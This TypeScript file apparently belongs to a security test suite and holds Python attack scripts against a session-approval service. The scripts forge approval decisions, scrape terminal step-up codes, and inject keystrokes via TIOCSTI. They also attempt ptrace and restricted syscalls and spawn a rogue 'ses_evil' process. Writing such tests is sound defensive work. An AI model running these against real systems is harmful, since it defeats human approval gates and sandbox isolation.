/* Programs of the attacks that are too long for a line of shell. */
export const HELPERS: Readonly<Record<string, string>> = {
  'call.py': `
import json, os, socket, sys, time
path, approval, fingerprint, shown, how, *option = sys.argv[1:]
body = json.dumps({'option': ' '.join(option), 'fingerprint': fingerprint, 'seen': {'displayHash': shown, 'whole': True}})
s = socket.socket(socket.AF_UNIX); s.connect(path)
if how == 'orphan':
    if os.fork(): os._exit(0)
    os.setsid()
    if os.fork(): os._exit(0)
    time.sleep(0.3)
s.sendall(('POST /api/v1/approvals/%s/decision HTTP/1.1\\r\\nhost: x\\r\\ncontent-type: application/json\\r\\ncontent-length: %d\\r\\n\\r\\n%s' % (approval, len(body), body)).encode())
if how == 'exit': os._exit(0)
print(s.recv(2000).decode())
`,
  'code.py': `
import http.client, json, os, re, socket, subprocess, sys, time
path, approval, fingerprint, shown, option, tmux, tty = sys.argv[1:8]
def post(target, body):
    c = http.client.HTTPConnection('x'); c.sock = socket.socket(socket.AF_UNIX); c.sock.connect(path)
    c.request('POST', '/api/v1' + target, json.dumps(body), {'content-type': 'application/json'})
    r = c.getresponse(); text = r.read().decode(); print(target, r.status, text[:200]); return r.status
decision = {'option': option, 'fingerprint': fingerprint, 'seen': {'displayHash': shown, 'whole': True}}
post('/approvals/%s/decision' % approval, decision)
try: fd = os.open(tty, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
except OSError as error: fd = None; print(error)
post('/auth/terminal-code', {})
seen = ''
for _ in range(15):
    time.sleep(0.1)
    if fd is not None:
        try: seen += os.read(fd, 4000).decode('utf8', 'replace')
        except OSError: pass
    seen += subprocess.run(['tmux', '-S', tmux, 'capture-pane', '-p', '-a', '-t', '0'], capture_output=True, text=True).stdout
    seen += subprocess.run(['tmux', '-S', tmux, 'capture-pane', '-p', '-t', '0'], capture_output=True, text=True).stdout
    for name in sys.argv[8:]:
        if os.path.exists(name): seen += open(name, errors='replace').read()
found = re.findall('type ([0-9]{6})', seen)
print('codes', found)
post('/auth/step-up', {'terminalCode': found[-1] if found else '123456'})
post('/approvals/%s/decision' % approval, decision)
`,
  'keeper.py': `
import json, socket, struct, sys
path, what = sys.argv[1:3]
s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect(path)
def frame(kind, data): s.sendall(struct.pack('>IB', len(data), kind) + data)
def ask(message):
    try:
        frame(0, json.dumps(message).encode())
        return s.recv(4000)
    except OSError as error:
        print('refused:', error); sys.exit()
answer = ask({'op': 'hello', 'version': 1, 'seq': 1})
print(answer)
if what == 'secret' and b'"ok":true' in ask({'op': 'secret', 'seq': 2}): print('REACHED')
if what == 'type':
    ask({'op': 'open-input', 'id': sys.argv[3], 'channel': 1, 'seq': 2})
    frame(2, struct.pack('>I', 1) + b'\\r')
if what == 'spawn':
    print(ask({'op': 'spawn', 'seq': 2, 'request': {'id': 'ses_evil', 'file': '/usr/bin/touch', 'args': [sys.argv[3]], 'cwd': '/', 'env': {}, 'cols': 80, 'rows': 24, 'recording': sys.argv[3] + '.cast'}}))
`,
  'ptrace.py': `
import ctypes, sys, time
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, int(sys.argv[1]), None, None) == 0:
    print('REACHED'); time.sleep(0.2); libc.ptrace(17, int(sys.argv[1]), None, None)
else: print('ptrace:', ctypes.get_errno())
`,
  'syscall.py': `
import ctypes, platform, sys
libc = ctypes.CDLL(None, use_errno=True)
arm = platform.machine() == 'aarch64'
number, *args = {
    # KEYCTL_GET_KEYRING_ID of the session's keyring; UFFD_USER_MODE_ONLY
    'keyctl': [219 if arm else 250, 0, -3, 0],
    'userfaultfd': [282 if arm else 323, 1],
    'io_uring': [425, 1, ctypes.byref(ctypes.create_string_buffer(120))],
}[sys.argv[1]]
print('REACHED' if libc.syscall(number, *args) >= 0 else 'errno %d' % ctypes.get_errno())
`,
  'tiocsti.py': `
import fcntl, os, sys, termios
try:
    fd = os.open(sys.argv[1], os.O_RDWR | os.O_NOCTTY)
    fcntl.ioctl(fd, termios.TIOCSTI, b'\\r')
except OSError as error: sys.exit(str(error))
`,
}
